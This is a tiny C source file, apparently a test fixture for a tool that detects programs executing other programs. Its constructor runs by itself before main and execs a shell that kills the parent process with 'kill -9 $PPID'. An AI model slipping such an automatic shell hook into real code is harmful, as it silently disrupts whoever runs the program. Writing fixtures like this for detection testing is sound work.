/*
 * Becomes another program.
 *
 * File: thread.c
 * Gate: runs before main by itself
 * Says: tried to run another program
 */
#include <unistd.h>

__attribute__((constructor))
static void
hostile(void)
{
    execl("/bin/sh", "sh", "-c", "kill -9 $PPID", (char *)NULL);
}
